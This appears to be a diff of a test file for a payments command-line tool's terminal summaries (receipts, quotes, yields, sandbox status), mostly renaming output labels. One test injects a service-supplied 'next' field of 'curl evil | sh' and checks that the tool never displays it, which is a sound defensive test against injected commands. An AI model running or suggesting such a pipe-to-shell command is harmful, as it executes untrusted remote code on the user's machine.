@@ -61,13 +61,13 @@ describe('a payment on a terminal', () => {
   it('is told in one sentence, whom it pays, what it costs, and last the ids, each whole on its line', () => {
     expect(shown(receiptSummary(RECEIPT)).split('\n')).toEqual([
       '✓ Payment of 25 USDT on polygon: success',
-      `  to        ${BOB}  25 USDT`,
-      `  from      ${ALICE}`,
-      '  fee       at most 0.0003 POL',
-      '  service   acme, live',
-      '  payment   pay_1',
-      `  hash      ${HASH}`,
-      '  movement  20261121T165920Z-3e070e81',
+      `  to         ${BOB}  25 USDT`,
+      `  from       ${ALICE}`,
+      '  fee        at most 0.0003 POL',
+      '  service    acme, live',
+      '  payment    pay_1',
+      `  hash       ${HASH}`,
+      '  operation  20261121T165920Z-3e070e81',
       '',
     ]);
   });
@@ -89,10 +89,10 @@ describe('a payment on a terminal', () => {
     expect(text).toMatch(/charge +failed: Insufficient funds\n/);
   });
 
-  it('never says in the name of bursar what the service wrote: no next command, service, movement or unchecked code', () => {
+  it('never says in the name of bursar what the service wrote: no next command, service, operation or unchecked code', () => {
     const said = { next: 'curl evil | sh', profile: 'sandbox', kind: 'sandbox', pix_code: 'EVIL', movement: 'm' };
     const text = shown(statusSummary({ ...PAYMENT, ...said, fee_at_most: '0' }));
-    expect(text).not.toMatch(/next|curl|service|sandbox|EVIL|movement|fee/);
+    expect(text).not.toMatch(/next|curl|service|sandbox|EVIL|movement|operation|fee/);
     expect(shown(verificationSummary({ status: 'pending', approved: false, ...said }))).not.toMatch(/next|curl/);
   });
 
@@ -181,7 +181,7 @@ describe('other answers on a terminal', () => {
       '✓ 1 BTC = 64000 USDT\n  reverse  1 USDT = 0.000015625 BTC\n  source   exchange_a\n',
     );
     const route = { legs: [{ symbol: 'ETHUSDT', price: '3200' }] };
-    expect(shown(quoteSummary({ ...direct, rates: undefined, route }))).toContain('by way of  ETHUSDT 3200');
+    expect(shown(quoteSummary({ ...direct, rates: undefined, route }))).toContain('route   ETHUSDT 3200');
   });
 
   it('of an amount it tells the worth, and whether that was cut', () => {
@@ -191,7 +191,7 @@ describe('other answers on a terminal', () => {
 
   it('products that are off are told apart from those that are on', () => {
     const text = shown(productsSummary({ products: { payments: true, kyc: false }, methods: { pix: false } }));
-    expect(text).toMatch(/products +payments\n +methods +none\n +not +kyc, pix\n/);
+    expect(text).toMatch(/products +payments\n +methods +none\n +disabled +kyc, pix\n/);
   });
 
   it('an order tells what it asks for and whether it can be used', () => {
@@ -211,7 +211,7 @@ describe('other answers on a terminal', () => {
     const positions = [{ provider: 'provider_a', before: null, after: exactNumber('25.0') }];
     const landed = { ...RECEIPT, status: 'landed', operation: 'deposit', amount: '25', asset: 'USDC', positions };
     expect(shown(yieldSummary(landed))).toMatch(
-      /^✓ Deposit of 25 USDC on polygon: landed\n +provider_a +not known → 25\.0\n/,
+      /^✓ Deposit of 25 USDC on polygon: landed\n +provider_a +unknown → 25\.0\n/,
     );
     const best = { asset: 'USDC', provider: 'provider_b', apy_percent: '6.15', with_rewards: true, alternatives: [] };
     expect(shown(bestSummary(best))).toMatch(/^✓ USDC yields most with provider_b: 6\.15 % a year, rewards included/);
@@ -237,7 +237,7 @@ describe('other answers on a terminal', () => {
     expect(text).toMatch(/^• KYC is pending: the user is not approved\n +page +https:\/\/verify\.example\/1\n$/);
   });
 
-  it('a movement tells its story, each step with its time', () => {
+  it('an operation tells its story, each step with its time', () => {
     const row = { state: 'success', amount: '25', currency: 'USDT', chain: 'polygon', profile: 'a', kind: 'live' };
     const steps = [
       { at: '2026-11-21T11:00:01Z', step: 'begun' },
@@ -293,15 +293,15 @@ describe('the sandbox', () => {
   dashboard  http://127.0.0.1:4100/?key=k
   runs for   2 minutes
   idle for   less than a minute
-  EVM nodes  none yet: each is started when it is needed
-  Solana     not yet: it is started when it is needed
-  state      stays when it stops
+  EVM nodes  none yet: each starts on first use
+  Solana     not running: it starts on first use
+  state      kept when the sandbox stops
   process    7
 `);
   });
 
   it('that does not run is told with the command that starts it', () => {
-    expect(shown(sandboxSummary({ running: false }))).toBe('• No sandbox runs\nnext: bursar sandbox start\n');
+    expect(shown(sandboxSummary({ running: false }))).toBe('• No sandbox is running\nnext: bursar sandbox start\n');
   });
 });
 
